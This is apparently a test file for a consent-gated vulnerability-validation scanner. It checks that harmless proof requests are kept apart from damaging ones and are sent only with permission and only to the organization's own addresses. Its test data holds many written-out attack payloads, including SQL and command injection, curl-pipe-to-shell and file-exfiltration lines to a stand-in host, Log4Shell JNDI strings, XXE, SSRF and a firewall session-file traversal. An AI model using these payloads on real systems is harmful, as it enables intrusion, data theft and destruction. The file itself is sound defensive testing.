import { loopbackNet } from "@parapet/net/testing/loopback-net";
import { describe, expect, test } from "vitest";

import type { ListenerCall, OutOfBand, ProofPermit } from "../proof-permit.ts";
import { classifyRequest } from "./guard/classify-request.ts";
import { readTemplate } from "./read-template.ts";
import type { Template } from "./template.ts";
import { changeFacts } from "./testing/change-facts.ts";
import { runRecorded } from "./testing/run-recorded.ts";

const SITE = "https://www.acme.test/";
const classOf = (method: string, target: string, body = "", headers: Record<string, string> = {}) =>
  classifyRequest({ method, url: `https://www.acme.test${target}`, headers, body }, SITE, "calls.example.net").harm;
const FORM = { "Content-Type": "application/x-www-form-urlencoded" };
const JSON_BODY = { "Content-Type": "application/json" };

describe("a request is a change that", () => {
  test.each<[string, Parameters<typeof classOf>]>([
    ["writes by SQL", ["GET", "/a?id=1;update users set admin=1"]],
    ["selects every row of what may be a deletion", ["POST", "/a.php", "id=1'+or+'1'='1", FORM]],
    ["writes a file by a command", ["GET", "/a?host=;id>/var/www/x.php"]],
    ["runs what only looks like a reading command", ["GET", "/a?host=;cat /etc/passwd;rm -rf /tmp/x"]],
    ["takes a program from elsewhere", ["GET", "/a?host=|curl http://p.calls.example.net|sh"]],
    ["stores what it fetches", ["GET", "/a?host=;wget http://p.calls.example.net/x"]],
    ["sends a file out by a header", ["GET", "/a?host=;curl http://p.calls.example.net -H @/etc/passwd"]],
    ["sends a header that steers", ["GET", "/a?host=;curl http://p.calls.example.net -H 'X-HTTP-Method: DELETE'"]],
    ["names a file as an agent", ["GET", "/a?host=;curl -A /etc/passwd http://p.calls.example.net"]],
    ["calls another host behind an agent", ["GET", "/a?host=;curl -A x http://other.org"]],
    ["reads a device beside a file", ["GET", "/read?file=../../../../dev/cmdb/sslvpn_websession/../../zero"]],
    ["reads another device of that folder", ["GET", "/read?file=../../../../dev/cmdb/sslvpn"]],
    [
      "leaves its action to a body that acts",
      ["POST", "/soap", "<a:Envelope><a:deleteUser>1</a:deleteUser></a:Envelope>", { SOAPAction: "" }],
    ],
    ["switches beside a proof", ["POST", "/mgr.cgi", "C1=ON&server=`curl http://p.calls.example.net`", FORM]],
    ["upgrades its protocol", ["GET", "/?name={{1337*42}}", "", { Upgrade: "h2c" }]],
    ["sends a file out", ["GET", "/a?host=;curl -T /etc/passwd http://p.calls.example.net"]],
    ["logs in", ["POST", "/login", "username=admin&password=admin", FORM]],
    ["logs in by JSON", ["POST", "/api/session", '{"user":"admin","password":"admin"}', JSON_BODY]],
    ["logs in by a query", ["GET", "/check?user=admin&passwd=1234"]],
    ["logs in by a header", ["GET", "/manager", "", { Authorization: "Basic YWRtaW46YWRtaW4=" }]],
    [
      "uploads",
      [
        "POST",
        "/a",
        '--x\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nx\r\n--x--',
        { "Content-Type": "multipart/form-data; boundary=x" },
      ],
    ],
    ["creates by JSON", ["POST", "/api/users", '{"name":"x","role":"admin"}', JSON_BODY]],
    ["stores a script", ["POST", "/comment", "text=<script>alert(1)</script>", FORM]],
    ["changes a graph", ["POST", "/graphql", '{"query":"mutation { deleteUser(id:1) { id } }"}', JSON_BODY]],
    ["names another host in a header", ["GET", "/?name={{1337*42}}", "", { "X-Forwarded-Host": "www.other.org" }]],
    ["names another host of the same address", ["GET", "/?name={{1337*42}}", "", { Host: "www.other.org" }]],
    ["writes to people", ["POST", "/contact-info", "name=x&email=a@example.com&message=hello", FORM]],
    ["overrides its method", ["GET", "/api/users/1", "", { "X-HTTP-Method-Override": "DELETE" }]],
    ["pollutes prototypes", ["GET", "/?__proto__[admin]=1"]],
    ["deserializes", ["POST", "/invoke", "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", FORM]],
    ["reads without end", ["GET", "/read?file=../../../../dev/zero"]],
    ["waits for long", ["GET", "/a?id=1 and sleep(600)"]],
    ["asks a third party", ["GET", "/proxy?url=https://api.someone.org/"]],
    ["speaks another protocol inside", ["GET", "/proxy?url=gopher://127.0.0.1:6379/_FLUSHALL"]],
    ["acts inside", ["GET", "/proxy?url=http://127.0.0.1:8080/manager/stop"]],
    ["stores a program", ["POST", "/savepng.php?location=a.php", "<?php echo 1;?>", {}]],
    [
      "starts a program by code",
      ["GET", "/?where=global.process.mainModule.constructor._load('child_process').exec('id')"],
    ],
    ["registers a client", ["POST", "/connect/register", '{"logo_uri":"http://p1.calls.example.net/x"}', JSON_BODY]],
    ["registers by a path", ["GET", "/guests/register/a@b.test/token-1"]],
    ["deletes", ["DELETE", "/api/users/1"]],
    ["is not known to read", ["POST", "/api/widgets", '{"colour":"blue"}', JSON_BODY]],
    ["expands entities", ["POST", "/xml", '<!DOCTYPE a [<!ENTITY b "&c;&c;&c;&c;"><!ENTITY c "x">]><a>&b;</a>', {}]],
  ])("%s", (_, request) => expect(classOf(...request)).toBe("change"));
});

describe("a request is a proof that", () => {
  test.each<[string, Parameters<typeof classOf>]>([
    ["reads a file above its folder", ["GET", "/static/..%2f..%2f..%2fetc/passwd"]],
    ["shows that a calculation was done", ["GET", "/?name={{1337*42}}"]],
    ["makes a database wait for seconds", ["GET", "/a?id=1' AND (SELECT 1 FROM (SELECT SLEEP(6))x)-- -"]],
    ["selects a marker", ["POST", "/a.php", "id=-1+union+select+md5(31337)", FORM]],
    ["runs a command that reads", ["POST", "/diag.cgi", "host=127.0.0.1;cat%20/etc/passwd", FORM]],
    [
      "tells its call by an agent",
      ["POST", "/a.php", "uid=10;curl http://p.calls.example.net -H 'User-Agent: abc'", FORM],
    ],
    [
      "reads the sessions of a firewall",
      ["GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"],
    ],
    [
      "looks a name up by a header of browsers",
      ["GET", "/", "", { "Upgrade-Insecure-Requests": "${jndi:ldap://p1.calls.example.net/a}" }],
    ],
    [
      "reads an entity without an action",
      ["POST", "/dms", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', { SOAPAction: '""' }],
    ],
    ["makes the listener be called", ["POST", "/fetch", '{"url":"http://p1.calls.example.net/x"}', JSON_BODY]],
    ["looks a name up", ["GET", "/", "", { "X-Api-Version": "${jndi:ldap://p1.calls.example.net/a}" }]],
    [
      "reads an entity",
      ["POST", "/xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', {}],
    ],
    ["asks a graph", ["POST", "/graphql", '{"query":"query { __schema { types { name } } }"}', JSON_BODY]],
    ["is shown an inner page", ["GET", "/admin", "", { "X-Middleware-Subrequest": "middleware:middleware" }]],
  ])("%s", (_, request) => expect(classOf(...request)).toBe("prove"));
});

const make = (id: string, lines: readonly string[]): Template =>
  readTemplate(`id: ${id}\ninfo: {name: ${id}, severity: high}\n${lines.join("\n")}\n`, `${id}.yaml`);

const TRAVERSAL = make("traversal", [
  "http:",
  "  - raw:",
  '      - "GET /files/../../../etc/passwd HTTP/1.1\\nHost: {{Hostname}}\\n\\n"',
  '    matchers: [{type: regex, regex: ["root:.*:0:0:"]}]',
]);
const INJECTION = make("injection", [
  "http:",
  "  - raw:",
  '      - "POST /diag HTTP/1.1\\nHost: {{Hostname}}\\nContent-Type: application/x-www-form-urlencoded\\n\\nhost=127.0.0.1;expr 1337 * 42"',
  '    matchers: [{type: word, words: ["56154"]}]',
]);
const CALLS = make("calls", [
  "http:",
  "  - method: GET",
  '    path: ["{{BaseURL}}/fetch?url=http://{{interactsh-url}}/"]',
  "    matchers: [{type: word, part: interactsh_protocol, words: [http]}]",
]);
const LED = make("led", [
  "http:",
  "  - raw:",
  '      - "GET /begin?file=../../../etc/passwd HTTP/1.1\\nHost: {{Hostname}}\\n\\n"',
  '      - "GET /item?id={{next}} HTTP/1.1\\nHost: {{Hostname}}\\n\\n"',
  '    extractors: [{type: regex, name: next, internal: true, group: 1, regex: ["next=(.+)"]}]',
  "    matchers: [{type: word, words: [never]}]",
]);
const ALL = [TRAVERSAL, INJECTION, CALLS, LED];

const listener = (calls: (name: string) => readonly ListenerCall[]): OutOfBand => {
  let issued = 0;
  return {
    domain: "calls.example.net",
    issue: async ({ template }) => `${template}-${++issued}.calls.example.net`,
    calls: async (name) => calls(name),
  };
};
const permitOf = (mayProve: () => boolean, outOfBand: OutOfBand | null = null): ProofPermit => ({
  takeRequest: async () => (mayProve() ? "consent-1" : null),
  covers: async () => true,
  accountAddresses: [],
  listener: outOfBand,
  userAgent: "Parapet-Validation/0.1 (+https://portal.example/scanning)",
  sourceAddress: null,
});

const VULNERABLE = (target: string) =>
  target.startsWith("/files/..")
    ? { status: 200, body: "root:x:0:0:root:/root:/bin/sh" }
    : target === "/diag"
      ? { status: 200, body: "56154" }
      : target.startsWith("/begin")
        ? { status: 200, body: "next=1;delete from users" }
        : { status: target === "/" ? 200 : 404, body: target === "/" ? "home" : "no" };

test("without a permit nothing of a proof leaves", async () => {
  const { recorded, hits } = await runRecorded(ALL, VULNERABLE);
  expect(hits).toEqual([]);
  expect(recorded).toEqual([]);
});

test("with one, what is vulnerable is proved with its request, and says who asks", async () => {
  const { recorded, hits, foreignNames } = await runRecorded([TRAVERSAL, INJECTION], VULNERABLE, 60_000, {
    permit: permitOf(() => true),
  });
  expect(hits.map(({ template }) => template.id).sort()).toEqual(["injection", "traversal"]);
  expect(recorded.map(({ target }) => target)).toContain("/files/../../../etc/passwd");
  expect(hits.find(({ template }) => template.id === "injection")?.http?.request).toContain(
    "host=127.0.0.1;expr 1337 * 42",
  );
  const proofs = recorded.filter(({ target, body }) => target.includes("passwd") || body !== "");
  expect(proofs.every(({ headers }) => headers.some(([name]) => name === "X-Parapet-Validation"))).toBe(true);
  expect(foreignNames).toEqual([]);
});

test("a consent that ends in the middle stops the next request", async () => {
  let left = 1;
  const { recorded, blind } = await runRecorded([LED], VULNERABLE, 60_000, { permit: permitOf(() => left-- > 0) });
  expect(recorded.map(({ target }) => target)).toEqual(["/begin?file=../../../etc/passwd"]);
  expect(blind).toMatchObject([{ id: "led" }]);
});

test("an address that is not shown to be the organization's is sent no proof, whatever the consent names", async () => {
  const permit = permitOf(() => true);
  const { recorded, blind } = await runRecorded([TRAVERSAL], VULNERABLE, 60_000, { permit, isOwn: false });
  expect(recorded.filter(({ target }) => target.includes("passwd"))).toEqual([]);
  expect(blind).toMatchObject([{ id: "traversal", detail: expect.stringContaining("not shown to belong") }]);
});

test("a proof that waited for its turn does not leave after its consent was stopped", async () => {
  const stopped = { ...permitOf(() => true), covers: async () => false };
  const { recorded, blind } = await runRecorded([TRAVERSAL], VULNERABLE, 60_000, { permit: stopped });
  expect(recorded.filter(({ target }) => target.includes("passwd"))).toEqual([]);
  expect(blind).toMatchObject([{ id: "traversal", reason: "knowledge-reduced" }]);
});

test("what an answer fills in is judged as it is sent", async () => {
  const { recorded, blind } = await runRecorded([LED], VULNERABLE, 60_000, { permit: permitOf(() => true) });
  expect(
    recorded.flatMap((it) => changeFacts(it, it.headers.find(([name]) => name.toLowerCase() === "host")?.[1] ?? "")),
  ).toEqual([]);
  expect(blind).toMatchObject([{ id: "led", reason: "not-supported" }]);
});

test("a site that gives the same answer to everything proves nothing", async () => {
  const { hits } = await runRecorded(
    [TRAVERSAL, INJECTION],
    () => ({ status: 200, body: "root:x:0:0: 56154" }),
    60_000,
    {
      permit: permitOf(() => true),
    },
  );
  expect(hits).toEqual([]);
});

const CALL: ListenerCall = { protocol: "http", from: "192.0.2.7", at: new Date(0), request: "GET / HTTP/1.1" };

test("a call of the probe's own name proves; a host that calls back everyone proves nothing", async () => {
  const only = await runRecorded([CALLS], VULNERABLE, 60_000, {
    permit: permitOf(
      () => true,
      listener((name) => (name.startsWith("calls-") ? [CALL] : [])),
    ),
  });
  expect(only.hits).toMatchObject([{ template: { id: "calls" }, http: { calls: [CALL] } }]);
  const everyone = await runRecorded([CALLS], VULNERABLE, 60_000, {
    permit: permitOf(
      () => true,
      listener(() => [CALL]),
    ),
  });
  expect(everyone.hits).toEqual([]);
  expect(everyone.blind).toMatchObject([{ id: "calls", detail: "The host calls back whatever it is sent." }]);
});

test("a template that waits for a call does not run without a listener", async () => {
  expect((await runRecorded([CALLS], VULNERABLE, 60_000, { permit: permitOf(() => true) })).recorded).toEqual([]);
});

const flow = (text: string, paths: readonly string[]): Template =>
  make("flow", [
    `flow: ${JSON.stringify(text)}`,
    "http:",
    ...paths.flatMap((path) => [
      "  - method: GET",
      `    path: ["{{BaseURL}}${path}"]`,
      '    extractors: [{type: regex, name: names, internal: true, group: 1, regex: ["name=(\\\\w+)"]}]',
      "    matchers: [{type: word, words: [yes]}]",
    ]),
  ]);

test.each([
  ["http(1) && http(2)", ["/a.txt", "/b.txt"], ["/a.txt"], []],
  ["http(2) && http(1)", ["/a.txt", "/b.txt"], ["/b.txt", "/a.txt"], []],
  ["http(1) || http(2)", ["/b.txt", "/a.txt"], ["/b.txt"], ["flow"]],
  [
    'http(1); for (let it of iterate(template["names"])) { set("it", it); http(2) }',
    ["/names.txt", "/{{it}}.txt"],
    ["/names.txt", "/one.txt", "/two.txt"],
    ["flow"],
  ],
  [
    'if (http(1)) { http(2) } else { set("x", "b"); http(3) }',
    ["/a.txt", "/c.txt", "/{{x}}.txt"],
    ["/a.txt", "/b.txt"],
    ["flow"],
  ],
] as const)("the flow %s decides what is asked and what it says", async (text, paths, asked, hits) => {
  const answer = (target: string) => ({
    status: 200,
    body:
      target === "/b.txt" || target === "/two.txt"
        ? "yes"
        : target === "/names.txt"
          ? "name=one name=two"
          : `no ${target}`,
  });
  const run = await runRecorded([flow(text, paths)], answer);
  const own = run.recorded.map(({ target }) => target).filter((it) => /^\/(?:[abc]|names|one|two)\.txt$/.test(it));
  expect(own).toEqual(asked);
  expect([...new Set(run.hits.map(({ template }) => template.id))]).toEqual(hits);
});

test("a flow without end ends", async () => {
  const { blind } = await runRecorded([flow("for (;;) { set('x', 1) }", ["/a.txt"])], () => ({ status: 200 }));
  expect(blind).toMatchObject([{ id: "flow" }]);
});

test("net sends a target as it is written, in one line only", async () => {
  await using net = loopbackNet();
  const ask = (target: string, tls: "inspect" | "verified") =>
    net.http({ url: "http://127.0.0.1:9/", tls, target, timeoutMs: 500 });
  await expect(ask("/a b", "inspect")).rejects.toThrow("cannot be sent");
  await expect(ask("/a\r\nX: y", "inspect")).rejects.toThrow("cannot be sent");
  await expect(ask("/../a", "verified")).rejects.toThrow("cannot be sent");
});
